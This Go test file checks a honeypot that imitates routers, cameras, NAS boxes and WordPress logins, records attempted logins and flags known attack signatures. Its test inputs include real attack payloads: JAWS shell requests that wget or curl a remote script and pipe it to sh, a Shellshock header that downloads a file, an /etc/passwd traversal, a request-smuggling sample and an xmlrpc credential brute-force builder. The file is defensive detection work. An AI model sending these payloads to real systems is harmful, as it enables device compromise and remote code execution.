package pots

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

const formWeb = "http listen=:1 auth=form server=Boa/0.94.14rc21"

func TestWebRefuses(t *testing.T) {
	w := newWeb(t, formWeb)
	for _, c := range []struct{ name, say, status, want string }{
		{"nothing", "", "", ""},
		{"empty lines", "\r\n\r\n", "", ""},
		{"one word", "hello\r\n", "400", "data hello\r\n\n"},
		{"cut off in the line", "GET /inde", "", "data GET /inde\n"},
		{"cut off in the header", "GET /a HTTP/1.1\r\nHost: b\r\nX", "", "GET /a 1.1 - error=unfinished\n"},
		{"cut off in the body", "POST /a HTTP/1.1\r\nContent-Length: 100\r\n\r\nuser=u&pass=p", "", "POST /a 1.1 - body=user=u&pass=p error=unfinished\nlogin form u:p\n"},
		{"binary", "\x03\x00\x00\x13\x0e\xe0\xff", "400", "data \\\x03\x00\x00\x13\x0e\\xe0\\xff\n"},
		{"HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "505", "PRI * 2.0 505 error=HTTP version\n"},
		{"RTSP", "OPTIONS / RTSP/1.0\r\n\r\n", "400", "data OPTIONS / RTSP/1.0\r\n\r\n\n"},
		{"no colon", "GET / HTTP/1.1\r\nHost\r\n\r\n", "400", "GET / 1.1 400 error=broken header field\n"},
		{"two lengths", "POST /x HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab", "400", "POST /x 1.1 400 error=ambiguous length\n"},
		{"smuggled", "POST / HTTP/1.1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n", "400", "POST / 1.1 400 error=ambiguous length\n"},
		{"a broken chunk", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\nx", "400", "POST / 1.1 400 body=abc error=broken chunk\n"},
		{"a refused one ends the rest", "GET / HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n x\r\n\r\nGET /c HTTP/1.1\r\n\r\n", "200 400", "GET / 1.1 200\nGET / 1.1 400 error=folded header field\n"},
		{"an unknown method", "BREW /pot HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n", "501", "BREW /pot 1.1 501\n"},
		{"a proxy's method", "CONNECT a.b:443 HTTP/1.1\r\n\r\n", "501", "CONNECT a.b:443 1.1 501\n"},
		{"half a hello", "\x16\x03\x01\x02\x00\x01", "", "data \x16\x03\x01\x02\x00\x01\n"},
	} {
		for _, piece := range []int{1, 11, 1 << 20} {
			if c.name == "binary" && piece == 1 || c.name == "HTTP/2" && piece < 20 || c.name == "RTSP" && piece < 30 {
				continue // it is refused at its first bytes, and they are what is told
			}
			heard, told := w.talk(c.say, piece)
			if got := lines(told); got != c.want || statuses(heard) != c.status {
				t.Errorf("%s, in pieces of %d: answered %s, told %q; want %s, %q", c.name, piece, statuses(heard), got, c.status, c.want)
			}
		}
	}
}

func TestWeb(t *testing.T) {
	const get = "GET / HTTP/1.1\r\nHost: a\r\n\r\n"
	w := newWeb(t, formWeb)
	for _, c := range []struct{ name, say, status, want string }{
		{"one", get, "200", "GET / 1.1 200\n"},
		{"pipelined", get + get + get, "200 200 200", strings.Repeat("GET / 1.1 200\n", 3)},
		{"closed", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n" + get, "200", "GET / 1.1 200\n"},
		{"1.0", "GET /index.html HTTP/1.0\r\n\r\n" + get, "200", "GET /index.html 1.0 200\n"},
		{"1.0 kept", "GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n" + get, "200 200", "GET / 1.0 200\nGET / 1.1 200\n"},
		{"0.9", "GET /\r\n", "", "GET / 0.9 200\n"},
		{"missing", "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.1\r\n\r\n", "404", "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak 1.1 404\n"},
		{"options", "OPTIONS * HTTP/1.1\r\n\r\n", "200", "OPTIONS * 1.1 200\n"},
		{"a proxy is asked", "GET http://example.com/boaform/x HTTP/1.1\r\n\r\n", "200", "GET http://example.com/boaform/x 1.1 200 signature=boa-command\n"},
		{"not UTF-8", "GET /\xff HTTP/1.1\r\n\r\n", "404", "GET \\/\\xff 1.1 404\n"},
		{"chunked", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nuser\r\n9\r\n=a&pass=b\r\n0\r\n\r\n" + get, "200 200", "POST / 1.1 200 body=user=a&pass=b\nlogin form a:b\nGET / 1.1 200\n"},
		{"form", "POST /login.cgi HTTP/1.1\r\nContent-Length: 26\r\n\r\nusername=root&password=%20", "200", "POST /login.cgi 1.1 200 body=username=root&password=%20\nlogin form root: \n"},
		{"form in the query", "GET /cgi-bin/x?user=a&pwd=b HTTP/1.1\r\n\r\n", "200", "GET /cgi-bin/x?user=a&pwd=b 1.1 200 signature=cgi-bin\nlogin form a:b\n"},
		{"basic", "GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YTpi\r\n\r\n", "200", "GET / 1.1 200\nlogin basic admin:a:b\n"},
		{"basic, unpadded and without a colon", "GET / HTTP/1.1\r\nauthorization: basic YWRtaW4\r\n\r\n", "200", "GET / 1.1 200\nlogin basic admin:\n"},
		{"basic, broken", "GET / HTTP/1.1\r\nAuthorization: Basic !!!\r\n\r\n", "200", "GET / 1.1 200\n"},
		{"WordPress", "POST /wp-login.php HTTP/1.1\r\nHost: h\r\nContent-Length: 59\r\n\r\nlog=admin&pwd=pass&redirect_to=http%3A%2F%2Fh%2Fwp-admin%2F", "200", "POST /wp-login.php 1.1 200 signature=wordpress-login body=log=admin&pwd=pass&redirect_to=http%3A%2F%2Fh%2Fwp-admin%2F\nlogin form admin:pass\n"},
		{"shell", "GET /shell?cd+/tmp;wget+http://1.2.3.4/jaws;sh+jaws HTTP/1.1\r\n\r\n", "200", "GET /shell?cd+/tmp;wget+http://1.2.3.4/jaws;sh+jaws 1.1 200 signature=jaws-shell\ndownload http://1.2.3.4/jaws\n"},
		{"shell with spaces", "GET /shell?cd /tmp;curl 1.2.3.4/x|sh HTTP/1.1\r\n\r\n", "200", "GET /shell?cd /tmp;curl 1.2.3.4/x|sh 1.1 200 signature=jaws-shell\ndownload http://1.2.3.4/x\n"},
		{"shellshock", "GET / HTTP/1.1\r\nUser-Agent: () { :;}; wget http://1.2.3.4/s\r\nReferer: http://ok/\r\n\r\n", "200", "GET / 1.1 200\ndownload http://1.2.3.4/s\n"},
		{"traversal", "GET //cgi-bin/.%2e/%2e%2e/etc/passwd HTTP/1.1\r\n\r\n", "200", "GET //cgi-bin/.%2e/%2e%2e/etc/passwd 1.1 200 signature=apache-traversal\n"},
	} {
		for _, piece := range []int{1, 7, 1 << 20} {
			heard, told := w.talk(c.say, piece)
			if got := lines(told); got != c.want || statuses(heard) != c.status {
				t.Errorf("%s, in pieces of %d: answered %s, told\n%swant %s,\n%s", c.name, piece, statuses(heard), got, c.status, c.want)
			}
		}
	}
}

// TestWebAnswer: what an answer looks like.
func TestWebAnswer(t *testing.T) {
	w := newWeb(t, formWeb+" realm=x")
	page := w.i.handler.(*httpPot).face.page
	heard, _ := w.talk("HEAD / HTTP/1.1\r\n\r\n", 1<<20)
	head := fmt.Sprintf("HTTP/1.1 200 OK\r\nDate: *\r\nServer: Boa/0.94.14rc21\r\nConnection: keep-alive\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n", len(page))
	if got := undated(heard); got != head {
		t.Errorf("HEAD: %q, want %q", got, head)
	}
	heard, _ = w.talk("GET / HTTP/1.1\r\n\r\n", 1<<20)
	if got := undated(heard); got != head+page {
		t.Errorf("GET: %q, want %q", got, head+page)
	}
	if heard, _ = w.talk("GET /\r\n", 1<<20); heard != page {
		t.Errorf("HTTP/0.9: %q", heard)
	}
	heard, _ = w.talk("POST / HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n", 1<<20)
	if heard != "HTTP/1.1 100 Continue\r\n\r\n" {
		t.Errorf("Expect: %q", heard)
	}
	basic := newWeb(t, "http listen=:1")
	heard, _ = basic.talk("GET /x HTTP/1.0\r\n\r\n", 1<<20)
	if want := "HTTP/1.1 401 N/A\r\nServer: Router Webserver\r\nConnection: close\r\nContent-Type: text/html\r\nWWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\"\r\n"; !strings.HasPrefix(heard, want) {
		t.Errorf("basic: %q", heard)
	}
	digest := newWeb(t, "http listen=:1 auth=digest realm=\"a\\\"b\"")
	one, _ := digest.talk("GET / HTTP/1.0\r\n\r\n", 1<<20)
	two, _ := digest.talk("GET / HTTP/1.0\r\n\r\n", 1<<20)
	if !strings.Contains(one, "WWW-Authenticate: Digest realm=\"ab\", nonce=\"") || one == two {
		t.Errorf("digest: %q and %q", one, two)
	}
}

// undated replaces the date.
func undated(s string) string {
	before, after, ok := strings.Cut(s, "Date: ")
	if !ok {
		return s
	}
	_, after, _ = strings.Cut(after, "\r\n")
	return before + "Date: *\r\n" + after
}

// TestWebDigest: the parameters come through, and no password is claimed.
func TestWebDigest(t *testing.T) {
	w := newWeb(t, "http listen=:1 auth=digest")
	_, told := w.talk("GET /x HTTP/1.1\r\nAuthorization: Digest username=\"ad,min\", realm=\"r\", nonce=\"n\", uri=\"/x\", response=\"0123\", qop=auth, nc=00000001, cnonce=\"c\"\r\n\r\n", 1<<20)
	if len(told) != 2 || told[1].typ != "login.failed" {
		t.Fatalf("told\n%s", lines(told))
	}
	for key, want := range map[string]string{"username": "ad,min", "realm": "r", "nonce": "n", "uri": "/x", "response": "0123", "qop": "auth", "nc": "00000001", "cnonce": "c", "method": "GET", "request_uri": "/x", "auth": "digest"} {
		if got := told[1].data[key]; got != want {
			t.Errorf("%s: %v, want %s", key, got, want)
		}
	}
	if _, ok := told[1].data["password"]; ok {
		t.Error("a password")
	}
}

// TestWebFields: every field of a request's event.
func TestWebFields(t *testing.T) {
	w := newWeb(t, formWeb)
	body := strings.Repeat("0123456789", 1000)
	say := "PUT /f HTTP/1.1\r\nHost: h:8080\r\nUser-Agent: ua\r\nX-A:  b\r\nContent-Length: 10000\r\n\r\n" + body
	_, told := w.talk(say, 777)
	sum := sha256.Sum256([]byte(body))
	want := map[string]any{
		"method": "PUT", "url": "/f", "version": "1.1", "host": "h:8080", "user_agent": "ua", "status": 404.0,
		"headers": "Host: h:8080\r\nUser-Agent: ua\r\nX-A:  b\r\nContent-Length: 10000\r\n",
		"length":  10000.0, "body": body[:httpBody], "shasum": hex.EncodeToString(sum[:]),
	}
	for key, v := range want {
		if told[0].data[key] != v {
			t.Errorf("%s: %v, want %v", key, told[0].data[key], v)
		}
	}
	if got := len(told[0].data); got != len(want)+len(common) {
		t.Errorf("%d fields: %v", got, told[0].data)
	}
}

// TestWebWorstEvent: the request that makes the largest event is told, not
// lost.
func TestWebWorstEvent(t *testing.T) {
	w := newWeb(t, formWeb)
	bad := func(n int) string { return strings.Repeat("\x01", n) }
	say := "POST /" + bad(8000) + " HTTP/1.1\r\nHost: " + bad(1000) + "\r\nUser-Agent: " + bad(1000) + "\r\nX: " + bad(5000) +
		"\r\nContent-Length: 5000\r\n\r\n" + bad(5000)
	_, told := w.talk(say, 1<<20)
	if len(told) != 1 || told[0].data["url_length"] != 8001.0 || told[0].data["length"] != 5000.0 {
		t.Errorf("told %d events", len(told))
	}
	if s := w.n.ring.Stats(); s.Dropped != 0 {
		t.Errorf("%+v", s)
	}
}

// TestWebKeepsCount: a connection serves so many requests and no more.
func TestWebKeepsCount(t *testing.T) {
	w := newWeb(t, formWeb)
	heard, told := w.talk(strings.Repeat("GET / HTTP/1.1\r\n\r\n", httpRequests+50), 1<<20)
	if got := strings.Count(heard, "HTTP/1.1 200"); got != httpRequests || len(told) != httpRequests {
		t.Errorf("%d answers, %d events", got, len(told))
	}
	if last := heard[strings.LastIndex(heard, "HTTP/1.1 200"):]; !strings.Contains(last, "Connection: close") {
		t.Errorf("the last: %q", last)
	}
}

// multicall is a system.multicall with n logins.
func multicall(n int) string {
	var b strings.Builder
	b.WriteString("<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>")
	for i := range n {
		fmt.Fprintf(&b, "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name>"+
			"<value><array><data><value><string>admin</string></value><value><string>p%d</string></value></data></array></value></member></struct></value>", i)
	}
	return b.String() + "</data></array></value></param></params></methodCall>"
}

// TestWebMulticall: every credential of one request is an event, up to a limit
// that is told.
func TestWebMulticall(t *testing.T) {
	w := newWeb(t, formWeb)
	for _, n := range []int{1, 3, httpLogins, httpLogins + 88} {
		body := multicall(n)
		heard, told := w.talk(fmt.Sprintf("POST /blog/xmlrpc.php HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s", len(body), body), 500)
		most := min(n, httpLogins)
		if len(told) != most+1 || strings.Count(heard, "Incorrect username") != most {
			t.Fatalf("%d logins: %d events, %d faults", n, len(told), strings.Count(heard, "Incorrect username"))
		}
		for i, e := range told[:most] {
			if want := fmt.Sprintf("login xmlrpc admin:p%d", i); e.String() != want {
				t.Fatalf("%s, want %s", e, want)
			}
		}
		request := told[most].data
		if dropped, _ := request["logins_dropped"].(float64); int(dropped) != n-most || request["signature"] != "wordpress-xmlrpc" {
			t.Errorf("%d logins: %v", n, request)
		}
	}
}

// TestWebMulticallUnread: a client that does not read the page of hundreds of
// faults makes us keep no more of it than of any other.
func TestWebMulticallUnread(t *testing.T) {
	w := newWeb(t, formWeb)
	for _, n := range []int{1, 2, httpLogins} {
		body := multicall(n)
		peer := &mute{say: fmt.Appendf(nil, "POST /xmlrpc.php HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s", len(body), body), chunk: 1 << 20}
		w.n.serve(w.i, peer)
		_, page, _ := strings.Cut(string(peer.heard), "\r\n\r\n")
		if !strings.Contains(string(peer.heard), fmt.Sprintf("Content-Length: %d\r\n", len(page))) || !strings.HasSuffix(page, "</methodResponse>\n") {
			t.Errorf("%d logins: %d bytes: %.300q", n, len(page), peer.heard)
		}
		if peer.most > httpMost {
			t.Errorf("%d logins: %d bytes at once", n, peer.most)
		}
		w.told()
	}
}

// TestWebTLSOnPlain: a TLS client is named although it is refused.
func TestWebTLSOnPlain(t *testing.T) {
	w := newWeb(t, formWeb)
	for _, p := range payloads(t) {
		if !strings.HasPrefix(p, "\x16\x03\x01\x00\xee") || len(p) != 243 {
			continue
		}
		for _, piece := range []int{1, 100, 1 << 20} {
			heard, told := w.talk(p, piece)
			if lines(told) != "client.hello\n" || statuses(heard) != "400" {
				t.Fatalf("in pieces of %d: %q, told %s", piece, heard, lines(told))
			}
			if d := told[0].data; len(d["ja3"].(string)) != 32 || len(d["ja4"].(string)) != 36 || d["versions"] == "" {
				t.Errorf("%v", d)
			}
		}
		return
	}
	t.Error("no hello in the corpus")
}

// TestWebOptions: what a -pot line can get wrong.
func TestWebOptions(t *testing.T) {
	for line, want := range map[string]string{
		"http listen=:1 auth=ntlm":                          "auth: want none, basic, digest or form",
		"https listen=:1 key=dsa":                           "key: want ecdsa or rsa",
		"http listen=:1 key=rsa":                            "unknown",
		"upnp listen=:1 auth=":                              "auth: want",
		"cwmp listen=:1 server=" + strings.Repeat("x", 300): "at most 256",
	} {
		if _, err := ParseSpec(line); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %s", line, err, want)
		}
	}
}

// TestWebServices: the ports without pages.
func TestWebServices(t *testing.T) {
	for _, c := range []struct{ line, say, status, want string }{
		{"cwmp listen=:1", "GET / HTTP/1.1\r\n\r\n", "401", "Digest realm"},
		{"cwmp listen=:1", "GET / HTTP/1.1\r\n\r\n", "401", "Server: RomPager/4.07 UPnP/1.0\r\n"},
		{"cwmp listen=:1", "POST /UD/act?1 HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n\r\n", "200", "<u:SetNTPServersResponse xmlns:u=\"urn:dslforum-org:service:Time:1\">"},
		{"cwmp listen=:1", "POST /UD/act?1 HTTP/1.1\r\nSOAPAction: a#<script>\r\n\r\n", "200", "<u:SetConfigResponse"},
		{"upnp listen=:1", "GET / HTTP/1.1\r\n\r\n", "404", "Server: ipos/7.0 UPnP/1.0 TL-WR841N/8.0\r\n"},
		{"upnp listen=:1", "GET /rootDesc.xml HTTP/1.1\r\n\r\n", "200", "<modelName>TL-WR841N</modelName>"},
		{"http listen=:1", "GET /HNAP1/ HTTP/1.1\r\n\r\n", "200", "<ModelName>TL-WR841N</ModelName>"},
		{"http listen=:1", "POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/AddPortMapping\"\r\n\r\n", "200", "<AddPortMappingResult>OK"},
		{"http listen=:1", "GET /manager/html HTTP/1.1\r\n\r\n", "401", "realm=\"Tomcat Manager Application\""},
		{"http listen=:1", "GET /.git/HEAD HTTP/1.1\r\n\r\n", "401", "TP-LINK"},
		{"http listen=:1", "GET /wp-admin/ HTTP/1.1\r\n\r\n", "302", "Location: /wp-login.php"},
		{"http listen=:1", "GET /xmlrpc.php HTTP/1.1\r\n\r\n", "405", "POST requests only"},
		{"http listen=:1", "POST /v1.24/containers/create HTTP/1.1\r\n\r\n", "201", "{\"Id\":\""},
	} {
		heard, _ := newWeb(t, c.line).talk(c.say, 1<<20)
		if statuses(heard) != c.status || !strings.Contains(heard, c.want) {
			t.Errorf("%s, %q: %q", c.line, c.say, heard)
		}
	}
}

// TestRoutes: each can be reached, none holds what can't be filled.
func TestRoutes(t *testing.T) {
	face := newWeb(t, formWeb).i.handler.(*httpPot).face
	for i := range httpRoutes {
		r := &httpRoutes[i]
		if r.name == "" || r.path != strings.ToLower(r.path) {
			t.Errorf("%s: name %q", r.path, r.name)
		}
		sample := strings.ReplaceAll(r.path, "*", "")
		if !strings.HasPrefix(sample, "/") {
			sample = "/x" + sample
		}
		path, query := appendPath(nil, []byte(sample))
		if got := routeOf(path, query); got != r {
			t.Errorf("%s is hidden by %+v", r.path, got)
		}
		for _, text := range []string{r.body, r.denied, r.cookie} {
			if strings.Contains(face.filled(text), "%{") {
				t.Errorf("%s: a placeholder is left in %q", r.path, face.filled(text))
			}
		}
	}
}

// TestWebPersonas: each device's own login page is where its persona says, and
// refuses there.
func TestWebPersonas(t *testing.T) {
	for _, c := range []struct{ persona, say, status, want string }{
		{"camera", "GET / HTTP/1.0\r\n\r\n", "", "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\nServer: uc-httpd 1.0.0\r\n"},
		{"camera", "POST /Login.htm HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "", "NETSurveillance WEB"},
		{"nas", "GET / HTTP/1.1\r\n\r\n", "302", "Location: /cgi-bin/\r\n"},
		{"nas", "GET /cgi-bin/ HTTP/1.1\r\n\r\n", "200", "Turbo NAS"},
		{"nas", "POST /cgi-bin/authLogin.cgi HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "200", "<authPassed><![CDATA[0]]>"},
		{"nas", "GET /nothing HTTP/1.1\r\n\r\n", "404", "Not Found"},
		{"ubuntu", "GET /wp-login.php HTTP/1.1\r\n\r\n", "200", "Log In &lsaquo; Blog"},
		{"ubuntu", "POST /wp-login.php HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "200", "password you entered is incorrect"},
		{"ubuntu", "POST /nothing HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "404", "Apache/2.4.41 (Ubuntu) Server"},
		{"ubuntu", "GET /.git/HEAD HTTP/1.1\r\n\r\n", "200", "refs/heads/master"},
	} {
		n := newNode(t, Config{Persona: c.persona})
		w := &web{n, n.handlerOf("http listen=:1")}
		if heard, _ := w.talk(c.say, 1<<20); statuses(heard) != c.status || !strings.Contains(heard, c.want) {
			t.Errorf("%s, %q: %q", c.persona, c.say, heard)
		}
		n.ring.Close()
	}
	if _, err := newHTTPFace(&Setup{Persona: "no-such", Options: &Options{}}); err == nil {
		t.Error("a persona that is not there")
	}
}
